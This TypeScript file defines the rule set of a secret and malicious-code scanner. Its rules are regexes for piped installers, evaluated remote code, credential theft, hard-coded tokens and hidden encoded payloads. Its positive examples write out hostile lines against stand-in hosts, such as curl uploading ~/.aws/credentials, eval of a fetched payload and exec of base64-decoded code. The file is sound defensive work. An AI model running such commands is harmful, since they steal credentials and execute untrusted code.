import type { PatternRule } from './pattern-rule.js';

/** The rule set's version: bump the minor for a new rule, the major for a changed or removed one. */
export const PATTERNS_VERSION = '1.0.0';

const SHELL = String.raw`(?:sudo\s+)?(?:ba|z|da|k)?sh\b`;
const CREDENTIAL_FILE =
  /(?:\.aws\/credentials|\.ssh\/id_(?:rsa|dsa|ecdsa|ed25519)|\.npmrc|\.pypirc|\.netrc|\.git-credentials|\.docker\/config\.json|\.kube\/config|\.config\/gh\/hosts\.yml|\/etc\/shadow)/;
const SENDS_OUT =
  /\b(?:curl|wget|nc|ncat|scp|rsync|fetch|axios|requests\.post|urlopen|https?\.request|XMLHttpRequest|sendBeacon|Invoke-WebRequest)\b/;
const READS = /\b(?:cat|readFile|readFileSync|open|read_text|read_bytes|Get-Content|base64|tar|zip)\b/;
const PLACEHOLDER = /^(?:x+|\*+|\.+)$|example|placeholder|changeme|your[-_]|<|dummy/i;

/** The rules, in report order. Documented in RULES.md beside this file. */
export const PATTERN_RULES: readonly PatternRule[] = [
  {
    id: 'SR001',
    name: 'Download piped into a shell',
    description:
      'A script is downloaded and run at once, unchecked: whoever controls the URL runs code here.',
    mitigation: 'Download to a file, verify its checksum or signature, then run it.',
    severity: 'high',
    category: 'SAST',
    cwe: ['CWE-494'],
    patterns: [
      new RegExp(String.raw`\b(?:curl|wget)\b[^|\n]{0,300}\|\s*(?:${SHELL}|python3?\b|node\b|perl\b|ruby\b)`),
      /\b(?:ba|z)?sh\s+<\(\s*(?:curl|wget)\b/,
      /\b(?:ba|z|da)?sh\s+-c\s+["']?\$\(\s*(?:curl|wget)\b/,
      /\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b[^|\n]{0,300}\|\s*(?:iex|Invoke-Expression)\b/i,
    ],
    examples: {
      positive: 'curl -fsSL https://get.example.test/install.sh | sudo bash',
      negative:
        'curl -fsSL -o install.sh https://get.example.test/install.sh && sha256sum -c install.sh.sha256',
    },
  },
  {
    id: 'SR002',
    name: 'Fetched code evaluated',
    description: 'Code fetched over the network is passed to eval or an equivalent and runs unchecked.',
    mitigation: 'Ship the code in the package; never evaluate what a server sends.',
    severity: 'critical',
    category: 'SAST',
    cwe: ['CWE-94', 'CWE-829'],
    patterns: [
      /\b(?:eval|Function|vm\.runIn(?:New|This)?Context)\s*\([^)\n]{0,200}\b(?:fetch|axios|got|https?\.get|request)\s*\(/,
      /\beval\s+["']?(?:\$\(|`)\s*(?:curl|wget)\b/,
      /\bexec\s*\([^)\n]{0,200}\b(?:urlopen|requests\.get|httpx\.get)\s*\(/,
    ],
    examples: {
      positive: 'eval(await (await fetch("https://cdn.example.test/payload.js")).text());',
      negative: 'const config = JSON.parse(await (await fetch("https://api.example.test/config")).text());',
    },
  },
  {
    id: 'SR003',
    name: 'Credentials file sent out',
    description:
      'A credentials file (cloud, SSH, registry tokens) is read and sent over the network on one line.',
    mitigation: 'Remove the code; rotate every credential the file held.',
    severity: 'critical',
    category: 'SAST',
    cwe: ['CWE-200', 'CWE-522'],
    patterns: [CREDENTIAL_FILE],
    alsoOnLine: [SENDS_OUT],
    examples: {
      positive: 'curl -s -F "f=@$HOME/.aws/credentials" https://collect.example.test/u',
      negative: 'echo "Put your keys in ~/.aws/credentials (see the AWS docs)"',
    },
  },
  {
    id: 'SR004',
    name: 'Credentials file read by code that sends data out',
    description: 'A credentials file is read in a file that also makes network requests.',
    mitigation: "Credentials come from the environment or a secret store, never from the user's files.",
    severity: 'high',
    category: 'SAST',
    cwe: ['CWE-200'],
    patterns: [CREDENTIAL_FILE],
    alsoOnLine: [READS],
    alsoInFile: SENDS_OUT,
    examples: {
      positive:
        "const creds = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'); await fetch(u, { body: creds });",
      negative:
        "const creds = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'); console.log(creds.length);",
    },
  },
  {
    id: 'SR010',
    name: 'Hard-coded AWS access key',
    description: 'An AWS access key id is in the code.',
    mitigation: 'Deactivate the key, remove it from the code and the history, load credentials at run time.',
    severity: 'high',
    category: 'Secrets',
    cwe: ['CWE-798'],
    patterns: [/\b((?:AKIA|ASIA)[0-9A-Z]{16})\b/],
    secret: true,
    examples: {
      positive: `aws_access_key_id = ${'AKIA'}Z7QW3ERT5YUI9OPA`,
      negative: 'aws_access_key_id = $AWS_ACCESS_KEY_ID',
    },
  },
  {
    id: 'SR011',
    name: 'Hard-coded GitHub token',
    description: 'A GitHub personal access, OAuth, app or refresh token is in the code.',
    mitigation: 'Revoke the token, remove it from the code and the history, load it at run time.',
    severity: 'high',
    category: 'Secrets',
    cwe: ['CWE-798'],
    patterns: [/\b(gh[pousr]_[A-Za-z0-9]{36,251})\b/, /\b(github_pat_[A-Za-z0-9_]{22,255})\b/],
    secret: true,
    examples: {
      positive: `const token = "${'ghp'}_Q1w2E3r4T5y6U7i8O9p0A1s2D3f4G5h6J7k8";`,
      negative: 'const token = process.env.GITHUB_TOKEN; // ghp_ tokens come from the environment',
    },
  },
  {
    id: 'SR012',
    name: 'Private key in the code',
    description: 'A PEM or OpenSSH private key is committed.',
    mitigation: 'Replace the key pair; keep private keys out of repositories.',
    severity: 'high',
    category: 'Secrets',
    cwe: ['CWE-321', 'CWE-798'],
    patterns: [/-----BEGIN (?:RSA |EC |DSA |OPENSSH |ENCRYPTED |PGP )?PRIVATE KEY(?: BLOCK)?-----/],
    examples: {
      positive: `-----BEGIN OPENSSH ${'PRIVATE'} KEY-----`,
      negative: '-----BEGIN PUBLIC KEY-----',
    },
  },
  {
    id: 'SR013',
    name: 'Hard-coded service token',
    description: 'A Slack, npm or Stripe live token is in the code.',
    mitigation: 'Revoke the token, remove it from the code and the history, load it at run time.',
    severity: 'high',
    category: 'Secrets',
    cwe: ['CWE-798'],
    patterns: [
      /\b(xox[abposr]-[A-Za-z0-9-]{10,250})/,
      /\b(npm_[A-Za-z0-9]{36})\b/,
      /\b((?:sk|rk)_live_[A-Za-z0-9]{24,99})\b/,
    ],
    secret: true,
    examples: {
      positive: `//registry.npmjs.org/:_authToken=${'npm'}_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8`,
      negative: '//registry.npmjs.org/:_authToken=$NPM_TOKEN',
    },
  },
  {
    id: 'SR014',
    name: 'Hard-coded password or key',
    description: 'A password, secret, API key or token is assigned a literal value.',
    mitigation: 'Load the value from the environment or a secret store.',
    severity: 'medium',
    category: 'Secrets',
    cwe: ['CWE-798'],
    patterns: [
      /(?:password|passwd|secret|api_?key|access_?token|auth_?token)["']?\s*[:=]\s*["']([^"'\s$<>{}]{12,200})["']/i,
    ],
    secret: true,
    isPlaceholder: (value) => PLACEHOLDER.test(value),
    examples: {
      positive: 'DB_PASSWORD = "Tr0ub4dor&3-horse"',
      negative: 'DB_PASSWORD = os.environ["DB_PASSWORD"]',
    },
  },
  {
    id: 'SR020',
    name: 'Decoded payload executed',
    description: 'Encoded text is decoded and executed at once: a common way to hide a payload.',
    mitigation: 'Ship readable code; never execute decoded data.',
    severity: 'high',
    category: 'SAST',
    cwe: ['CWE-506'],
    patterns: [
      /\b(?:eval|Function|exec|execSync|system|popen)\s*\(\s*(?:atob|Buffer\.from|base64\.b64decode|b64decode|codecs\.decode|zlib\.decompress|marshal\.loads|String\.fromCharCode|bytes\.fromhex|unescape)\s*\(/,
      new RegExp(String.raw`\bbase64\s+(?:-d|--decode|-D)\b[^|\n]{0,300}\|\s*${SHELL}`),
    ],
    examples: {
      positive: "exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))",
      negative: 'data = base64.b64decode(blob); print(len(data))',
    },
  },
  {
    id: 'SR021',
    name: 'Long escaped string',
    description: 'A string of 32 or more \\x or \\u escapes: code or data hidden from readers.',
    mitigation: 'Keep code readable; put binary data in files with a documented origin.',
    severity: 'medium',
    category: 'SAST',
    cwe: ['CWE-506'],
    patterns: [
      /(?:\\x[0-9A-Fa-f][0-9A-Fa-f]){32,}/,
      /(?:\\u[0-9A-Fa-f][0-9A-Fa-f][0-9A-Fa-f][0-9A-Fa-f]){32,}/,
    ],
    examples: {
      positive: `const p = "${'\\x63\\x75\\x72\\x6c'.repeat(10)}";`,
      negative: 'const red = "\\x1b[31m";',
    },
  },
];
